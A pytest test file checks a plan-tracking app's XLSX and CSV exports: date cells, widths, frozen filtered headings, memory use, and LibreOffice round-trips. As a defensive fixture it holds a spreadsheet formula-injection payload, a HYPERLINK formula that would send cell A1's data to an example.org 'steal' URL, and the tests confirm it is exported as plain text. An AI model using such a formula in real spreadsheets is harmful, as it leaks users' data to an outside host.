"""XLSX exports that open well: real date cells, widths, a frozen and filtered heading row, wrapped text and text
that never runs; proved by reading the cells back with openpyxl and after LibreOffice has opened and saved them."""

import csv
import datetime
import io
import os
import shutil
import subprocess
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from actions import services as action_services
from records.sheets import write_table
from snapshots.plan_columns import EXPORT_COLUMNS

from .export_files import HISTORY_COLUMNS, PLAN_EXPORT_COLUMNS, export, read_csv

pytestmark = pytest.mark.usefixtures("clock")

HYPERLINK = '=HYPERLINK("http://example.org/steal?d="&A1,"Click for the evidence")'
LONG = "A long account of the work: " + "sessions held in each school, " * 12


@pytest.fixture
def risky(known):
    """The known plan, with an action whose title and commentary would run as formulas if they were not text."""
    action = action_services.action_create(
        plan=known.plan,
        fields={"objective": known.plan.objectives.get(), "reference": "1.2", "title": HYPERLINK, "outputs": LONG},
        answers=[],
        leads=[],
        by=known.coordinator,
    )
    action_services.action_update_status(
        action=action,
        rag="red",
        commentary="+44 20 7364 5000 to call",
        as_of=datetime.date(2018, 10, 1),
        evidence=None,
        by=known.coordinator,
        expected_version=action.version,
    )
    return known


def xlsx_bytes(response) -> bytes:
    return b"".join(response.streaming_content)


def by_heading(sheet) -> dict[str, list]:
    rows = list(sheet.iter_rows())
    return {heading.value: [row[index] for row in rows[1:]] for index, heading in enumerate(rows[0])}


def test_the_plan_export_opens_with_dates_widths_a_frozen_filtered_heading_and_wrapped_text(risky, signed_in):
    data = xlsx_bytes(export(signed_in(risky.auditor), "plans:export_as_at", risky.plan, "xlsx"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert [cell.value for cell in sheet[1]] == PLAN_EXPORT_COLUMNS  # the contract's headings, in its order
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(EXPORT_COLUMNS))}3"  # every column
    widths = {
        sheet.cell(row=1, column=index).value: sheet.column_dimensions[letter].width
        for index, letter in enumerate("ABCDEFGHIJK", start=1)
    }
    assert widths["action"] >= 40 and widths["commentary"] >= 40 and widths["reference"] >= 10
    assert all(width >= 10 for width in widths.values()), widths

    columns = by_heading(sheet)
    last_update = columns["last_update"][1]
    assert last_update.is_date and last_update.number_format == "dd/mm/yyyy"
    assert last_update.value == datetime.datetime(2018, 10, 1)  # the day the update was written, in London
    assert all(cell.alignment.wrap_text for cell in columns["outputs"] + columns["action"])
    assert columns["outputs"][1].value == LONG
    assert not columns["reference"][0].alignment.wrap_text


def test_a_formula_is_a_string_cell_in_the_xlsx_and_keeps_its_quote_in_the_csv(risky, signed_in):
    client = signed_in(risky.auditor)
    data = xlsx_bytes(export(client, "plans:export_as_at", risky.plan, "xlsx"))
    columns = by_heading(load_workbook(io.BytesIO(data)).active)
    title, commentary = columns["action"][1], columns["commentary"][1]
    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
    assert (commentary.value, commentary.data_type, commentary.quotePrefix) == ("+44 20 7364 5000 to call", "s", True)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    csv_rows = read_csv(export(client, "plans:export_as_at", risky.plan, "csv"))
    assert (csv_rows[2][2], csv_rows[2][9]) == (f"'{HYPERLINK}", "'+44 20 7364 5000 to call")


def test_the_history_export_gives_recorded_at_as_a_utc_date_cell(risky, signed_in):
    data = xlsx_bytes(export(signed_in(risky.auditor), "plans:export_history", risky.plan, "xlsx"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert [cell.value for cell in sheet[1]] == HISTORY_COLUMNS
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:J{sheet.max_row}"
    columns = by_heading(sheet)
    times = columns["recorded_at"]
    assert all(cell.is_date and cell.number_format == 'dd/mm/yyyy hh:mm:ss "UTC"' for cell in times)
    assert times[0].value == datetime.datetime(2018, 4, 2, 9, 0)
    assert HYPERLINK in {cell.value for cell in columns["new_value"]}
    assert "+44 20 7364 5000 to call" in {cell.value for cell in columns["comment"]}
    assert all(cell.data_type == "s" for cell in columns["new_value"] if cell.value is not None)
    assert all(cell.alignment.wrap_text for cell in columns["new_value"] if cell.value is not None)


def _rows(count: int):
    for number in range(count):
        yield [f"2018-04-02T09:{number % 60:02}:00Z", "coordinator", "Council", "2018-19", "Action", f"{number}"]


def _peak_of_writing(count: int) -> int:
    workbook = Workbook(write_only=True)
    tracemalloc.start()
    try:
        header = ["recorded_at", "user", "council", "plan", "object_type", "object_ref"]
        write_table(workbook.create_sheet("History"), header, _rows(count))
        workbook.save(io.BytesIO())
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_writing_the_xlsx_takes_the_same_memory_for_ten_times_the_rows():
    """A guard rather than a new behaviour: the styled cells must not undo the write-only sheet's flat memory."""
    small, large = _peak_of_writing(1_000), _peak_of_writing(10_000)
    assert large < small * 1.5 + 256 * 1024, (small, large)


# LibreOffice: what a spreadsheet makes of the file, rather than what openpyxl wrote


def soffice() -> str:
    path = shutil.which("soffice")
    if path is None:
        if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
            pytest.fail("LibreOffice (soffice) is missing: `make test` installs it (libreoffice-calc-nogui)")
        pytest.skip("LibreOffice (soffice) is not installed: `make libreoffice` (part of `make test`) installs it")
    return path


def convert(data: bytes, name: str, to: str, tmp_path: Path) -> Path:
    tmp_path.mkdir()
    source = tmp_path / name
    source.write_bytes(data)
    out = tmp_path / "converted"
    # A profile of its own, so a LibreOffice already running for someone else is neither used nor disturbed.
    command = [soffice(), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", to]
    subprocess.run([*command, "--outdir", str(out), str(source)], check=True, capture_output=True, timeout=120)  # noqa: S603
    return out / f"{source.stem}.{to.split(':')[0]}"


def test_libreoffice_keeps_formulas_as_text_and_dates_as_dates(risky, signed_in, tmp_path):
    client = signed_in(risky.auditor)
    plan = xlsx_bytes(export(client, "plans:export_as_at", risky.plan, "xlsx"))
    history = xlsx_bytes(export(client, "plans:export_history", risky.plan, "xlsx"))

    resaved = load_workbook(convert(plan, "plan.xlsx", "xlsx", tmp_path / "plan")).active
    columns = by_heading(resaved)
    assert (columns["action"][1].value, columns["action"][1].data_type) == (HYPERLINK, "s")
    assert columns["last_update"][1].is_date and columns["last_update"][1].value == datetime.datetime(2018, 10, 1)
    assert resaved.auto_filter.ref == f"A1:{get_column_letter(len(EXPORT_COLUMNS))}3"
    times = by_heading(load_workbook(convert(history, "history.xlsx", "xlsx", tmp_path / "history")).active)
    assert all(cell.is_date for cell in times["recorded_at"])

    # As text, the way LibreOffice shows the cells: the formula's own characters, the dates in the UK's order.
    shown = convert(plan, "plan.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path / "shown")
    rows = list(csv.reader(io.StringIO(shown.read_text(encoding="utf-8"), newline="")))
    assert rows[2][2] == HYPERLINK and rows[2][8] == "01/10/2018"
